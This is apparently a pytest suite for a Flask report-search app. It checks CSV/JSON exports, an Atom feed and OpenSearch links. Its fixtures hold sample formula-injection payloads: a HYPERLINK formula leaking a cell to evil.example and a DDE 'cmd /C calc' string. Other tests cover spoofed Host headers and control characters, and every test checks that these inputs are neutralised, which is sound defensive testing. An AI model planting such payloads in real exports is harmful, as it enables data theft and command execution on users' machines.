"""Exports (CSV, JSON), the Atom feed and the OpenSearch description, through Flask's test client."""

from __future__ import annotations

import csv
import io
import json
import re
from xml.etree import ElementTree as ET

import pytest

from search import load_settings, update_index
from search.cli import cli
from web import create_app

ATOM = "{http://www.w3.org/2005/Atom}"
PARAGRAPHS = 1100  # past any 1,000-hit cap


@pytest.fixture(scope="module")
def client(tmp_path_factory):
    root = tmp_path_factory.mktemp("feeds")
    reports = root / "reports"
    reports.mkdir()
    for day in range(1, 12):
        paragraphs = [
            f"Russian forces shelled Kherson City, report {day} item {n}, with \"quotes\", commas; and Київ."
            for n in range(PARAGRAPHS // 11)
        ]
        (reports / f"day-{day:02d}.txt").write_text(f"December {day}, 2024\n\n" + "\n\n".join(paragraphs) + "\n")
    settings = load_settings(environ={}, index_dir=root / "index")
    update_index(settings, [reports])
    app = create_app(settings, TESTING=True)
    yield app.test_client()
    app.extensions["sitrep"].close()


def test_csv_export_streams_every_match(client):
    response = client.get("/api/export.csv?q=Kherson&sort=oldest")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.is_streamed
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert len(rows) == PARAGRAPHS
    assert rows[0]["date"] == "2024-12-01" and rows[-1]["date"] == "2024-12-11"
    assert rows[0]["text"].startswith('Russian forces shelled Kherson City, report 1 item 0, with "quotes"')
    assert rows[0]["url"].startswith("http://127.0.0.1:5000/reports/day-01#p")
    assert len({row["id"] for row in rows}) == PARAGRAPHS


def test_json_export_is_one_array_with_filters_applied(client):
    response = client.get("/api/export.json?q=Kherson&from=2024-12-10&sort=newest")
    data = json.loads(response.get_data(as_text=True))
    assert len(data) == 200 and {hit["date"] for hit in data} == {"2024-12-10", "2024-12-11"}
    assert [hit["date"] for hit in data] == sorted((hit["date"] for hit in data), reverse=True)
    assert set(data[0]) >= {"id", "report_id", "text", "url", "topics", "places"}


def test_export_errors_are_json_before_any_output(client):
    for url in ("/api/export.csv?from=notadate", "/api/export.json?q=%22open", "/api/export.csv?colour=red"):
        response = client.get(url)
        assert response.status_code == 400 and response.get_json()["ok"] is False


def test_atom_feed_newest_first(client):
    response = client.get("/feed.atom?q=Kherson")
    assert response.mimetype == "application/atom+xml"
    feed = ET.fromstring(response.get_data())
    entries = feed.findall(f"{ATOM}entry")
    assert len(entries) == 50
    updated = [entry.find(f"{ATOM}updated").text for entry in entries]
    assert updated == sorted(updated, reverse=True) and updated[0].startswith("2024-12-11")
    assert feed.find(f"{ATOM}updated").text == "2024-12-11T00:00:00Z"
    ids = [entry.find(f"{ATOM}id").text for entry in entries]
    assert len(set(ids)) == 50 and all(i.startswith("http://127.0.0.1:5000/reports/") for i in ids)
    assert '"quotes"' in entries[0].find(f"{ATOM}content").text


def test_opensearch_description_and_links(client):
    description = ET.fromstring(client.get("/opensearch.xml").get_data())
    namespace = "{http://a9.com/-/spec/opensearch/1.1/}"
    urls = {url.get("type"): url.get("template") for url in description.findall(f"{namespace}Url")}
    assert urls["text/html"] == "http://127.0.0.1:5000/?q={searchTerms}"
    assert urls["application/atom+xml"] == "http://127.0.0.1:5000/feed.atom?q={searchTerms}"
    html = client.get("/?q=Kherson&topic=Strikes").get_data(as_text=True)
    assert 'rel="search" type="application/opensearchdescription+xml"' in html
    assert 'href="/feed.atom?q=Kherson&amp;topic=Strikes"' in html
    assert 'href="/api/export.csv?q=Kherson&amp;topic=Strikes"' in html


# -- cells a spreadsheet would run as formulas (#13) -----------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULA_RECORDS = [
    {"id": "eq", "title": '=HYPERLINK("http://evil.example/?x="&A1,"Details")', "source": "=cmd|' /C calc'!A0",
     "date": "2024-12-02", "text": "=1+1 Kherson shelling was reported."},
    {"id": "plus", "title": "+Kherson update", "source": "+SUM(A1:A9)", "date": "2024-12-03",
     "text": "+380 residents of Kherson were evacuated."},
    {"id": "minus", "title": "-Kherson update", "source": "-2+3", "date": "2024-12-04",
     "text": "-2+3 drones struck Kherson port."},
    {"id": "at", "title": "@SUM(1+1)*cmd", "source": "@Kherson Monitor", "date": "2024-12-05",
     "text": "@SUM(1+1) Kherson residents sheltered."},
    {"id": "tab", "title": "\t=1+1 Kherson", "source": "\tTab Source", "date": "2024-12-06",
     "text": "Kherson was quiet through the night, officials said."},
    {"id": "cr", "title": "\r=1+1 Kherson", "source": "\rCR Source", "date": "2024-12-07",
     "text": "Kherson calm overnight."},
    {"id": "plain", "title": "Kherson daily", "source": "Kherson Monitor", "date": "2024-12-08",
     "text": "Kherson had power 3-4 hours; a=b."},
]


def records_app(runner, tmp_path, records: list[dict], **settings):
    """The app over an index that the real `sitrep index` built from a JSON Lines export of ``records``."""
    reports = tmp_path / "reports"
    reports.mkdir()
    (reports / "records.jsonl").write_text("\n".join(json.dumps(r) for r in records) + "\n")
    index_dir = tmp_path / "index"
    result = runner.invoke(cli, ["index", str(reports), "--index-dir", str(index_dir)], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return create_app(load_settings(environ={}, index_dir=index_dir, **settings), TESTING=True)


@pytest.fixture
def formula_client(runner, tmp_path):
    """Reports whose title, source and text cells start like spreadsheet formulas."""
    app = records_app(runner, tmp_path, FORMULA_RECORDS)
    yield app.test_client()
    app.extensions["sitrep"].close()


def test_csv_cells_never_start_a_formula(formula_client):
    response = formula_client.get("/api/export.csv?q=Kherson&sort=oldest")
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
    assert len(rows) == len(FORMULA_RECORDS)
    for row in rows:
        assert not [value for value in row.values() if value.startswith(FORMULA_STARTS)], row
    by_date = {row["date"]: row for row in rows}
    first = by_date["2024-12-02"]
    assert first["title"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Details")'
    assert first["source"] == "'=cmd|' /C calc'!A0"
    assert first["text"] == "'=1+1 Kherson shelling was reported."
    assert [by_date[day]["source"] for day in ("2024-12-03", "2024-12-04", "2024-12-05", "2024-12-06", "2024-12-07")] == [
        "'+SUM(A1:A9)", "'-2+3", "'@Kherson Monitor", "'\tTab Source", "'\rCR Source"]
    assert by_date["2024-12-04"]["text"] == "'-2+3 drones struck Kherson port."
    # Only the first character counts: a = or - inside a cell is left as written.
    assert (by_date["2024-12-08"]["title"], by_date["2024-12-08"]["text"]) == (
        "Kherson daily", "Kherson had power 3-4 hours; a=b.")


def test_json_export_keeps_the_text_as_written(formula_client):
    data = json.loads(formula_client.get("/api/export.json?q=Kherson&sort=oldest").get_data(as_text=True))
    assert [hit["source"] for hit in data[:2]] == ["=cmd|' /C calc'!A0", "+SUM(A1:A9)"]


# -- XML output: characters XML 1.0 forbids, and links from base_url (#13) ----------------

# Everything outside XML 1.0's Char production (https://www.w3.org/TR/xml/#charsets).
XML_FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
CONTROLS = "".join(chr(n) for n in range(0x00, 0x09)) + "\x0b\x0c\x1b\ufffe\uffff"
CONTROL_RECORDS = [
    {"id": "controls", "title": "Kherson\x0btitle\x1b[31m\ufffe\uffff", "source": "Control\x00Source\x08",
     "date": "2024-12-03", "text": f"Kherson shelling{CONTROLS} was reported\x07 overnight\x1b[0m."},
    {"id": "plain", "title": "Kherson daily", "source": "Kherson Monitor", "date": "2024-12-02",
     "text": "Kherson had power for three hours."},
]
BASE_URL = "https://sitrep.example.org/desk"


@pytest.fixture
def control_client(runner, tmp_path):
    """Reports with control characters and non-characters in their title, source and text."""
    app = records_app(runner, tmp_path, CONTROL_RECORDS, base_url=BASE_URL)
    yield app.test_client()
    app.extensions["sitrep"].close()


def xml_strings(root: ET.Element) -> list[str]:
    """Every text, tail and attribute value in the tree."""
    return [value for element in root.iter()
            for value in (element.text, element.tail, *element.attrib.values()) if value]


def test_feed_parses_whatever_characters_the_reports_hold(control_client):
    body = control_client.get("/feed.atom?q=Kherson").get_data()
    feed = ET.fromstring(body)
    assert not [value for value in xml_strings(feed) if XML_FORBIDDEN.search(value)]
    entries = {entry.find(f"{ATOM}author/{ATOM}name").text: entry for entry in feed.findall(f"{ATOM}entry")}
    assert set(entries) == {"ControlSource", "Kherson Monitor"}
    assert entries["ControlSource"].find(f"{ATOM}title").text == "Khersontitle[31m ¶1"
    # The text is the paragraph's, less exactly the characters XML forbids.
    (stored,) = [hit["text"] for hit in control_client.get("/api/search?q=shelling").get_json()["hits"]]
    assert XML_FORBIDDEN.search(stored)
    content = entries["ControlSource"].find(f"{ATOM}content").text
    assert content == XML_FORBIDDEN.sub("", stored) and content.startswith("Kherson shelling")
    assert content.endswith("was reported overnight[0m.")


def test_feed_title_drops_control_characters_of_the_query(control_client):
    feed = ET.fromstring(control_client.get("/feed.atom?q=Kherson%0B").get_data())
    assert feed.find(f"{ATOM}title").text == "Sitrep: Kherson"
    assert feed.find(f"{ATOM}id").text == f"{BASE_URL}/feed.atom?q=Kherson%0B"


@pytest.mark.parametrize("path", ["/feed.atom?q=Kherson", "/opensearch.xml", "/api/export.csv?q=Kherson",
                                  "/api/export.json?q=Kherson", "/reports/plain"])
def test_absolute_links_come_from_base_url_not_the_host_header(control_client, path):
    response = control_client.get(path, headers={"Host": "evil.example", "X-Forwarded-Host": "evil.example"})
    body = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "evil.example" not in body and "localhost" not in body
    assert f"{BASE_URL}/" in body


def test_feed_and_opensearch_links(control_client):
    feed = ET.fromstring(control_client.get("/feed.atom?q=Kherson&sort=oldest", headers={"Host": "evil.example"}).get_data())
    links = {link.get("rel"): link.get("href") for link in feed.findall(f"{ATOM}link")}
    assert links == {"self": f"{BASE_URL}/feed.atom?q=Kherson&sort=oldest",
                     "alternate": f"{BASE_URL}/?q=Kherson&sort=oldest"}
    assert {entry.find(f"{ATOM}id").text for entry in feed.findall(f"{ATOM}entry")} == {
        f"{BASE_URL}/reports/controls#p1", f"{BASE_URL}/reports/plain#p1"}
    description = ET.fromstring(control_client.get("/opensearch.xml", headers={"Host": "evil.example"}).get_data())
    namespace = "{http://a9.com/-/spec/opensearch/1.1/}"
    assert [url.get("template") for url in description.findall(f"{namespace}Url")] == [
        f"{BASE_URL}/?q={{searchTerms}}", f"{BASE_URL}/feed.atom?q={{searchTerms}}"]
